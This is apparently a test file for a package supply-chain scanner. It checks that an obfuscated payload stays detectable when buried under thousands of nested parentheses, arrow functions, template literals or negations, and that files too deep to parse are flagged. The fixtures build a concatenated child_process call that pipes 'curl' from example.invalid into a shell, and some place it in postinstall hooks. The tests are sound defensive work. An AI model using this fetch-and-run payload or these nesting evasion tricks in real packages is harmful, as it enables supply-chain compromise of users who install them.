import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Script } from 'node:vm';
import { copyFile } from 'node:fs/promises';
import { createReadStream } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import { BUNDLE, runCli } from '../support/cli.js';
import { packTree, tempDir } from './support.js';
import type { ScanReport } from '../../helper/src/scan/index.js';

// Deep nesting that Node runs but a recursive parser's stack does not reach (reviewer's finding, session 4): the
// file is read again with a larger stack (helper/src/scan/deep.ts), and one nested past even that, if it runs at
// install or on require, leaves the scan incomplete. Payloads are inert and aim at example.invalid; nothing here
// runs package code (vm.Script only compiles).
let work: { dir: string; cleanup(): Promise<void> };
beforeAll(async () => {
  work = await tempDir('sscs-depth-');
});
afterAll(() => work.cleanup());

const DEFS = "const cp = require('child_process'), u = 'https://example.invalid/x', q = 0;\n";
const PAYLOAD = 'cp["ex"+"ec"]("cu"+"rl "+u+" | s"+"h")';
/** The reviewer's prefixes (and what closes them), each in front of PAYLOAD. */
const SHAPES: [name: string, open: string, close: string][] = [
  ['1,000 nested parentheses', `var z=${'('.repeat(1000)}1${')'.repeat(1000)};`, ''],
  ['1,000 nested arrow functions', '()=>'.repeat(1000), ''],
  ['1,000 nested template literals', '`${'.repeat(1000), '}`'.repeat(1000)],
  ['10,000 chained conditionals', 'q?1:'.repeat(10_000), ''],
  ['10,000 negations', '!'.repeat(10_000), ''],
];

let n = 0;
async function scanCli(manifest: Record<string, unknown>, files: Record<string, string>, failOn = 'high'): Promise<{ exitCode: number; report: ScanReport }> {
  const tgz = await packTree(work.dir, `depth-${n++}`, manifest, files);
  const r = await runCli(['scan', tgz, '--format', 'json', '--fail-on', failOn]);
  expect(r.stderr).toBe('');
  return { exitCode: r.exitCode, report: JSON.parse(r.stdout) as ScanReport };
}
const atLeastHigh = (r: ScanReport) => r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => `${f.severity} ${f.rule} ${f.file}:${f.line ?? ''}`).sort();

describe('scan: deep nesting does not hide a payload', () => {
  for (const [name, open, close] of SHAPES) {
    const code = `${DEFS}${open}${PAYLOAD}${close};\n`;
    it(`${name}: Node compiles the file`, () => {
      expect(() => new Script(code)).not.toThrow();
    });
    it(`${name}: the payload is found in the entry point (high) and from postinstall (critical); exit 1`, async () => {
      const asMain = await scanCli({ main: 'index.js' }, { 'index.js': code });
      expect(atLeastHigh(asMain.report)).toEqual(['high code-download-exec index.js:2', 'high code-hidden-api index.js:2']);
      expect(asMain.report.complete).toBe(true);
      expect(asMain.exitCode).toBe(1);
      const asHook = await scanCli({ scripts: { postinstall: 'node install.js' } }, { 'install.js': code });
      expect(atLeastHigh(asHook.report)).toEqual(['critical code-download-exec install.js:2', 'critical code-hidden-api install.js:2']);
      expect(asHook.exitCode).toBe(1);
    });
  }
});

describe('scan: the single-file bundle', () => {
  it('is its own deep-nesting worker (nothing beside it)', async () => {
    const alone = await tempDir('sscs-depth-bundle-');
    try {
      await copyFile(BUNDLE, join(alone.dir, 'sscs.mjs'));
      const tgz = await packTree(alone.dir, 'deep', { main: 'index.js' }, { 'index.js': `${DEFS}${'!'.repeat(10_000)}${PAYLOAD};\n` });
      const r = await execa(process.execPath, [join(alone.dir, 'sscs.mjs'), 'scan', tgz, '--format', 'json'], { cwd: alone.dir, reject: false, env: { PATH: process.env.PATH }, extendEnv: false });
      expect(r.stderr).toBe('');
      expect(atLeastHigh(JSON.parse(r.stdout) as ScanReport)).toEqual(['high code-download-exec index.js:2', 'high code-hidden-api index.js:2']);
      expect(r.exitCode).toBe(1);
    } finally {
      await alone.cleanup();
    }
  });
});

describe('ScanPool (firewall serve --scan, policy check --scan)', () => {
  it('a scan worker starts the deep-nesting worker from its own thread', async () => {
    const { ScanPool } = await import('../../helper/dist/scan/pool.js');
    const pool = new ScanPool({ concurrency: 1 });
    try {
      const tgz = await packTree(work.dir, 'pooled', { scripts: { postinstall: 'node install.js' } }, { 'install.js': `${DEFS}${'()=>'.repeat(1000)}${PAYLOAD};\n` });
      expect(atLeastHigh(await pool.scan(createReadStream(tgz)))).toEqual(['critical code-download-exec install.js:2', 'critical code-hidden-api install.js:2']);
    } finally {
      await pool.close();
    }
  });
});

describe('scan: a file nested past what the parser reads', () => {
  // 200,000 nested arrows: more than a 64 MiB stack parses (it reads about 50,000).
  const code = `${DEFS}${'()=>'.repeat(200_000)}${PAYLOAD};\n`;

  it('is scan-incomplete (high) when it is the entry point, and the scan fails at any threshold', async () => {
    const r = await scanCli({ main: 'index.js' }, { 'index.js': code }, 'critical');
    expect(r.report.findings.map((f) => `${f.severity} ${f.rule} ${f.file}`)).toEqual(['high scan-incomplete index.js']);
    expect(r.report.findings[0]!.message).toBe('nested deeper than the parser reads with a 64 MiB stack (runs on require), so the scan cannot call the package clean');
    expect(r.report.complete).toBe(false);
    expect(r.exitCode).toBe(1);
  });

  it('is scan-incomplete when a hook runs the entry point (`node .`)', async () => {
    const r = await scanCli({ main: 'index.js', scripts: { postinstall: 'node .' } }, { 'index.js': code });
    expect(r.report.findings.filter((f) => f.rule === 'scan-incomplete').map((f) => `${f.severity} ${f.file} ${f.message}`)).toEqual([
      'high index.js nested deeper than the parser reads with a 64 MiB stack (runs at install), so the scan cannot call the package clean',
    ]);
    expect(r.exitCode).toBe(1);
  });

  it('is low code-not-analysed when nothing loads it (the scan stays complete)', async () => {
    const r = await scanCli({ main: 'index.js' }, { 'index.js': 'module.exports = 1;\n', 'lib/unused.js': code });
    expect(r.report.findings.map((f) => `${f.severity} ${f.rule} ${f.file}`)).toEqual(['low code-not-analysed lib/unused.js']);
    expect(r.report.complete).toBe(true);
    expect(r.exitCode).toBe(0);
  });
});

describe('scan: benign nesting is analysed normally', () => {
  const benign = [
    `var z = ${'('.repeat(200)}1${')'.repeat(200)};`,
    `module.exports = ${'() => '.repeat(200)}1;`,
    `var t = ${'`a${'.repeat(200)}1${'}`'.repeat(200)};`,
    `var c = function (k) { return ${'k === 1 ? 1 : '.repeat(200)}0; };`,
    `var a = ${'['.repeat(200)}${']'.repeat(200)};`,
    `var o = ${'{ a: '.repeat(200)}1${' }'.repeat(200)};`,
    `function f(x) { if (x === 0) return 0;${' else if (x === 1) return 1;'.repeat(200)} }`,
  ].join('\n');

  it('200 levels of each shape: nothing reported', async () => {
    const r = await scanCli({ main: 'index.js', scripts: { postinstall: 'node .' } }, { 'index.js': `${benign}\nmodule.exports.z = z;\n` });
    expect(r.report.findings.map((f) => f.rule)).toEqual(['install-script']);
    expect(r.report.complete).toBe(true);
    expect(r.exitCode).toBe(0);
  });

  it('a generated 5,000-branch else-if chain and 5,000 nested calls (past the thread stack): read with the larger stack, nothing reported', async () => {
    const generated = `function f(x) { if (x === 0) return 0;${Array.from({ length: 5000 }, (_, i) => ` else if (x === ${i + 1}) return ${i};`).join('')} }\nvar v = ${'g('.repeat(5000)}1${')'.repeat(5000)};\nmodule.exports = f;\n`;
    const r = await scanCli({ main: 'index.js' }, { 'index.js': generated });
    expect(r.report.findings).toEqual([]);
    expect(r.report.complete).toBe(true);
  });
});

describe('scan: deeply nested files re-read per package', () => {
  it('at most 8; a ninth is not analysed', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 9; i++) files[`lib/f${i}.js`] = `${DEFS}${'!'.repeat(20_000)}${PAYLOAD};\n`;
    const r = await scanCli({}, files, 'none');
    const byFile = r.report.findings.filter((f) => f.rule === 'code-hidden-api' || f.rule === 'code-not-analysed').map((f) => `${f.rule} ${f.file}`);
    expect(byFile.filter((s) => s.startsWith('code-hidden-api'))).toHaveLength(8);
    expect(byFile.filter((s) => s.startsWith('code-not-analysed'))).toHaveLength(1);
    const ninth = r.report.findings.find((f) => f.rule === 'code-not-analysed')!;
    expect(ninth.message).toBe("nested deeper than the parser reads with this thread's stack, and 8 such files of the package were already read again with a larger one (not reached from an entry point)");
    expect(ninth.severity).toBe('low');
  });
});
